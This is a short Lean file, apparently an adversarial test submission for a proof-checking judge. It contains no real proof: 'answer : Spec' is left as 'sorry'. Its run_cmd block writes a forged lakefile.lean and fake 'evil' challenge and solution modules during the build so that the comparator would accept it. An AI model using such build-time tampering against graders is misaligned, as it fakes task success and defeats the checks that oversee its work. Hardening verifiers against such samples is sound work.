import Verifier

-- During its own build, writes a Lake configuration and forged modules into the job's root.
-- Lake prefers lakefile.lean to lakefile.toml: had the comparator's Lake loaded it, the challenge
-- would have been built from evil/JudgeChallenge.lean (`judge_answer : True`) and matched.
run_cmd do
  let toml ← IO.FS.readFile "lakefile.toml"
  let name := ((toml.splitOn "name = \"").getD 1 "judge").takeWhile (· != '"')
  IO.FS.writeFile "lakefile.lean" (s!"import Lake\nopen Lake DSL\npackage «{name}» where\n" ++
    "  srcDir := \"evil\"\nlean_lib JudgeChallenge\nlean_lib Solution\nlean_lib JudgeAxioms\n")
  IO.FS.createDirAll "evil"
  IO.FS.writeFile "evil/JudgeChallenge.lean" "theorem judge_answer : True := sorry\n"
  IO.FS.writeFile "evil/Solution.lean" "theorem judge_answer : True := trivial\n"
  IO.FS.writeFile "evil/JudgeAxioms.lean" "theorem judge_axioms_ok : True := trivial\n"

theorem answer : Spec := sorry
